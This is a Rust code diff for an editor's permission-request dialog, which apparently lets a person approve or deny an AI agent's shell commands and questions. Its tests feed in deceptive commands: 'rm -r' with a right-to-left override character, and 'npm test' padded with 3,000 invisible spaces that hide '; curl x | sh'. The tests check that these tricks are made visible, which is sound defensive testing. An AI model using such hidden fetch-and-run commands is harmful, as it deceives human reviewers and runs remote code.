@@ -2,21 +2,13 @@
 
 use std::collections::{HashMap, HashSet};
 
-use areyouj_protocol::{Answer, Permission, PermissionKind};
+use areyouj_protocol::{Answer, Permission};
 use ls_types::{MessageActionItem, MessageType, ShowMessageRequestParams};
-use serde_json::Value;
 
-use areyouj_core::text::{always, plain};
-
-/// The maximum number of characters in a message box. A longer request cannot be reviewed there, so it can only be
-/// denied.
-const MAX_CHARACTERS: usize = 4_000;
+use super::permission_box::{Choices, message_box};
 
 /// The maximum number of open questions in an editor; further requests are answered elsewhere.
 const MAX_OPEN_QUESTIONS: usize = 100;
-
-/// The titles of a question's buttons, and the answer that each gives.
-type Choices = Vec<(String, Answer)>;
 
 /// A question for the person at the editor.
 pub(super) struct Question {
@@ -25,7 +17,19 @@ pub(super) struct Question {
     pub(super) text: ShowMessageRequestParams,
     /// The id of the permission request. `choices` has the answer of each button.
     permission: String,
+    /// The digest of the permission request that the question displays.
+    digest: String,
     choices: Choices,
+}
+
+/// The answer to a permission request, for the daemon.
+#[derive(Clone, Debug, PartialEq)]
+pub(super) struct Answered {
+    /// The id of the permission request.
+    pub(super) permission: String,
+    /// The digest of what the question displayed.
+    pub(super) digest: String,
+    pub(super) answer: Answer,
 }
 
 /// The questions in an editor.
@@ -52,11 +56,17 @@ impl PermissionRequests {
         self.next += 1;
         let id = format!("{}-question-{}", self.prefix, self.next);
         self.questions.insert(permission.id.clone(), Some(id.clone()));
-        let (message, choices) = question(permission);
+        let (message, choices) = message_box(permission);
         let action = |title: &String| MessageActionItem { title: title.clone(), properties: HashMap::new() };
         let actions = Some(choices.iter().map(|(title, _)| action(title)).collect());
         let text = ShowMessageRequestParams { typ: MessageType::INFO, message, actions };
-        Some(Question { id, text, permission: permission.id.clone(), choices })
+        Some(Question {
+            id,
+            text,
+            permission: permission.id.clone(),
+            digest: permission.digest.clone(),
+            choices,
+        })
     }
 
     /// The question to withdraw because its permission request is no longer open.
@@ -78,86 +88,38 @@ impl PermissionRequests {
 
     /// The answer to a permission request when the person chose the button with this title. A withdrawn question has no
     /// answer. The request of a dismissed one stays open for other clients.
-    pub(super) fn answered(&mut self, question: Question, title: Option<&str>) -> Option<(String, Answer)> {
+    pub(super) fn answered(&mut self, question: Question, title: Option<&str>) -> Option<Answered> {
         let asked = self.questions.get_mut(&question.permission)?;
         if asked.as_ref() != Some(&question.id) {
             return None;
         }
         *asked = None;
         let (_, answer) = question.choices.into_iter().find(|(choice, _)| Some(choice.as_str()) == title)?;
-        Some((question.permission, answer))
-    }
-}
-
-/// The text of a question, and its choices.
-fn question(permission: &Permission) -> (String, Choices) {
-    let input = serde_json::to_value(&permission.input).unwrap_or_default();
-    let deny = ("Deny".to_owned(), Answer::Deny { message: None });
-    let detail = match permission.kind {
-        PermissionKind::Question => return choices(permission, &input),
-        PermissionKind::Plan => input["plan"].as_str().map(str::to_owned),
-        PermissionKind::Tool => match input.as_object() {
-            Some(members) if members.len() == 1 => input["command"].as_str().map(str::to_owned),
-            _ => None,
-        },
-    };
-    let detail = detail.unwrap_or_else(|| serde_json::to_string_pretty(&input).unwrap_or_default());
-    let mut text = plain::exact(&format!("{}: {}\n\n{detail}", permission.id, permission.title));
-    let always = permission.kind == PermissionKind::Tool && !permission.suggestions.is_empty();
-    if always {
-        // A permanent permission must be displayed before it can be granted.
-        text.push_str(&format!("\n\nAlways allow: {}", always::in_words(&permission.suggestions)));
-    }
-    if text.chars().count() > MAX_CHARACTERS {
-        let shown: String = text.chars().take(MAX_CHARACTERS).collect();
-        return (format!("{shown}…\n\nThe rest: areyouj permissions"), vec![deny]);
-    }
-    let mut answers = vec![("Allow".to_owned(), Answer::Allow {}), deny];
-    if always {
-        answers.insert(1, ("Always allow".to_owned(), Answer::AllowAlways { suggestions: None }));
-    }
-    (text, answers)
-}
-
-/// A question with choices. One question with one choice can be answered in a message box.
-fn choices(permission: &Permission, input: &Value) -> (String, Choices) {
-    let elsewhere = |text: &str| {
-        let shown: String = plain::exact(text).chars().take(MAX_CHARACTERS).collect();
-        (format!("{shown}\n\nAnswer with: areyouj answer {}", permission.id), Vec::new())
-    };
-    let questions = input["questions"].as_array().map(Vec::as_slice).unwrap_or_default();
-    match questions {
-        [only] if only["multiSelect"] != true => {
-            let options = only["options"].as_array().map(Vec::as_slice).unwrap_or_default();
-            let words = |value: &Value| value.as_str().unwrap_or_default().to_owned();
-            let mut text = format!("{}: {}", permission.id, words(&only["question"]));
-            for option in options {
-                text.push_str(&format!("\n- {}: {}", words(&option["label"]), words(&option["description"])));
-            }
-            let choose =
-                |label: String| (plain::exact(&label), Answer::Choose { choices: vec![vec![label]] });
-            let text = plain::exact(&text);
-            if text.chars().count() > MAX_CHARACTERS {
-                return elsewhere(&text);
-            }
-            (text, options.iter().map(|option| choose(words(&option["label"]))).collect())
-        }
-        _ => elsewhere(&format!("{}: {}", permission.id, permission.title)),
+        Some(Answered { permission: question.permission, digest: question.digest, answer })
     }
 }
 
 #[cfg(test)]
 mod tests {
-    use serde_json::json;
+    use areyouj_core::text::{always, display};
+    use serde_json::{Value, json};
 
     use super::*;
 
-    fn permission(kind: &str, input: &Value) -> Permission {
+    fn permission(kind: &str, tool: &str, input: &Value) -> Permission {
+        let wire =
+            |sections| serde_json::to_value::<Vec<areyouj_protocol::DisplaySection>>(sections).unwrap();
         serde_json::from_value(json!({
-            "id": "K7M2Q9XD-1", "sessionId": "K7M2Q9XD", "kind": kind, "tool": "Bash", "input": input, "title": "Run a command",
-            "suggestions": [], "createdAt": 1, "state": "open", "answeredBy": null,
+            "id": "K7M2Q9XD-1", "sessionId": "K7M2Q9XD", "kind": kind, "tool": tool, "input": input,
+            "title": "Run a command", "display": wire(display::sections(tool, input)), "digest": "0f",
+            "controlsAreyouj": false, "suggestions": [], "always": [], "createdAt": 1, "state": "open",
+            "answeredBy": null, "granted": [],
         }))
         .unwrap()
+    }
+
+    fn command(command: &str) -> Permission {
+        permission("tool", "Bash", &json!({ "command": command }))
     }
 
     fn requests() -> PermissionRequests {
@@ -175,13 +137,14 @@ mod tests {
     #[test]
     fn a_permission_request_is_displayed_once_and_its_answer_counts_once() {
         let mut requests = requests();
-        let permission = permission("tool", &json!({ "command": "rm -r \u{202e}x" }));
+        let permission = command("rm -r \u{202e}x");
         let asked = requests.open(&permission).unwrap();
         assert!(requests.open(&permission).is_none());
         assert_eq!(titles(&asked), ["Allow", "Deny"]);
-        assert!(asked.text.message.contains("rm -r <U+202E>x"), "{}", asked.text.message);
+        assert!(asked.text.message.contains("rm -r \u{27e8}U+202E\u{27e9}x"), "{}", asked.text.message);
         let again = Question { id: asked.id.clone(), ..ask(&permission) };
-        let allowed = Some(("K7M2Q9XD-1".to_owned(), Answer::Allow {}));
+        let (permission, digest) = ("K7M2Q9XD-1".to_owned(), "0f".to_owned());
+        let allowed = Some(Answered { permission, digest, answer: Answer::Allow {} });
         assert_eq!(requests.answered(asked, Some("Allow")), allowed);
         assert_eq!(requests.answered(again, Some("Allow")), None);
     }
@@ -189,7 +152,7 @@ mod tests {
     #[test]
     fn a_question_is_withdrawn_when_its_request_was_answered_elsewhere() {
         let mut requests = requests();
-        let permission = permission("tool", &json!({ "command": "ls" }));
+        let permission = command("ls");
         for _ in 0..2 * MAX_OPEN_QUESTIONS {
             let asked = requests.open(&permission).expect("there is room for it again");
             assert_eq!(requests.close(&permission.id), Some(asked.id.clone()));
@@ -201,10 +164,7 @@ mod tests {
     #[test]
     fn a_list_of_open_requests_withdraws_other_questions_and_does_not_repeat_dismissed_ones() {
         let mut requests = requests();
-        let numbered = |number: u32| Permission {
-            id: format!("K7M2Q9XD-{number}"),
-            ..permission("tool", &json!({ "command": "ls" }))
-        };
+        let numbered = |number: u32| Permission { id: format!("K7M2Q9XD-{number}"), ..command("ls") };
         let dismissed = requests.open(&numbered(1)).unwrap();
         let open = requests.open(&numbered(2)).unwrap();
         assert_eq!(requests.answered(dismissed, None), None);
@@ -217,10 +177,7 @@ mod tests {
     #[test]
     fn the_number_of_open_questions_is_limited() {
         let mut requests = requests();
-        let numbered = |number: usize| Permission {
-            id: format!("K7M2Q9XD-{number}"),
-            ..permission("tool", &json!({ "command": "ls" }))
-        };
+        let numbered = |number: usize| Permission { id: format!("K7M2Q9XD-{number}"), ..command("ls") };
         assert!((0..MAX_OPEN_QUESTIONS).all(|number| requests.open(&numbered(number)).is_some()));
         assert!(requests.open(&numbered(MAX_OPEN_QUESTIONS)).is_none());
         requests.close("K7M2Q9XD-0");
@@ -229,35 +186,61 @@ mod tests {
 
     #[test]
     fn the_meaning_of_always_is_displayed() {
-        let mut permission = permission("tool", &json!({ "command": "ls" }));
-        permission.suggestions =
-            serde_json::from_value(json!([{ "type": "setMode", "mode": "acceptEdits" }])).unwrap();
+        let mut permission = command("ls");
+        let mode = json!({ "type": "setMode", "mode": "acceptEdits", "destination": "session" });
+        let rule = json!({ "type": "addRules", "behavior": "allow", "destination": "session",
+            "rules": [{ "toolName": "Bash", "ruleContent": "ls" }] });
+        permission.always = always::offers(&[mode.clone(), rule]);
         let asked = ask(&permission);
         assert_eq!(titles(&asked), ["Allow", "Always allow", "Deny"]);
         let message = &asked.text.message;
-        assert!(message.ends_with(r#"Always allow: {"type":"setMode","mode":"acceptEdits"}"#), "{message}");
+        assert!(message.ends_with("Always allow: Bash(ls), for this session only"), "{message}");
+        permission.always = always::offers(&[mode]);
+        assert_eq!(titles(&ask(&permission)), ["Allow", "Deny"], "a mode is no rule");
     }
 
     #[test]
-    fn a_request_that_is_too_long_to_display_cannot_be_allowed() {
-        let long = permission("tool", &json!({ "command": "x".repeat(MAX_CHARACTERS) }));
-        assert_eq!(titles(&ask(&long)), ["Deny"]);
+    fn a_request_that_does_not_fit_can_only_be_denied_and_says_how_to_read_it() {
+        let hidden = format!("npm test{}; curl x | sh", "\u{a0}".repeat(3_000));
+        let asked = ask(&command(&hidden));
+        assert_eq!(titles(&asked), ["Allow", "Deny"], "marks make it short");
+        assert!(
+            asked.text.message.contains("\u{27e8}U+00A0 \u{d7}3,000\u{27e9}; curl x | sh"),
+            "{}",
+            asked.text.message
+        );
+        for long in ["x".repeat(1_000), "y\n".repeat(20)] {
+            let asked = ask(&command(&long));
+            assert_eq!(titles(&asked), ["Deny"]);
+            let message = &asked.text.message;
+            assert!(message.ends_with("run: areyouj permissions K7M2Q9XD-1"), "{message}");
+            assert!(message.chars().count() < 700 && message.lines().count() < 20, "{message}");
+        }
     }
 
     #[test]
     fn a_question_is_answered_with_one_of_its_choices() {
         let options = json!([{ "label": "Red", "description": "As a rose" }, { "label": "Blue" }]);
-        let one =
-            permission("question", &json!({ "questions": [{ "question": "Which?", "options": options }] }));
+        let question = |input: &Value| permission("question", "AskUserQuestion", input);
+        let one = question(&json!({ "questions": [{ "question": "Which?", "options": options }] }));
         let mut requests = requests();
         let asked = requests.open(&one).unwrap();
         assert_eq!(titles(&asked), ["Red", "Blue"]);
-        assert_eq!(asked.text.message, "K7M2Q9XD-1: Which?\n- Red: As a rose\n- Blue: ");
-        let chosen = Answer::Choose { choices: vec![vec!["Blue".to_owned()]] };
-        assert_eq!(requests.answered(asked, Some("Blue")), Some(("K7M2Q9XD-1".to_owned(), chosen)));
-        let long = json!({ "questions": [{ "question": "?".repeat(MAX_CHARACTERS), "options": options }] });
-        assert_eq!(titles(&ask(&permission("question", &long))), Vec::<&str>::new());
-        let two = json!({ "questions": [{ "options": options }, { "options": options }] });
-        assert_eq!(titles(&ask(&permission("question", &two))), Vec::<&str>::new());
+        assert_eq!(
+            asked.text.message,
+            "K7M2Q9XD-1: Run a command\n\nTool: AskUserQuestion\nQuestion 1: Which?\nChoice 1.1: Red\n\
+             Choice 1.1, description: As a rose\nChoice 1.2: Blue"
+        );
+        let answer = Answer::Choose { choices: vec![vec!["Blue".to_owned()]] };
+        assert_eq!(requests.answered(asked, Some("Blue")).map(|answered| answered.answer), Some(answer));
+        for elsewhere in [
+            json!([{ "question": "?".repeat(1_000), "options": options }]),
+            json!([{ "question": "A?", "options": options }, { "question": "B?", "options": options }]),
+            json!([{ "question": "A?", "options": options, "multiSelect": true }]),
+            json!([{ "question": "A?", "options": [{ "label": "a".repeat(61) }] }]),
+            json!([{ "question": "A?", "options": [{ "label": "a\n" }, { "label": "a\u{240a}" }] }]),
+        ] {
+            assert_eq!(titles(&ask(&question(&json!({ "questions": elsewhere })))), ["Deny"]);
+        }
     }
 }
